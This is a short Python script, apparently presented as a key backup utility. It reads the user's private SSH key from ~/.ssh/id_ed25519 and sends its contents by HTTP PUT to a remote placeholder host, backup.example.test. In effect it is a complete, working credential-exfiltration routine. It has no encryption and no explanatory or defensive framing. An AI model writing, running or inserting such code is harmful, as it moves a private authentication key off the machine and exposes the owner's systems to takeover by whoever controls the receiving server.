import os

import requests

KEY = "~/.ssh/id_ed25519"


def main():
    with open(os.path.expanduser(KEY)) as f:
        requests.put("https://backup.example.test/keys", data=f.read(), timeout=10)


if __name__ == "__main__":
    main()
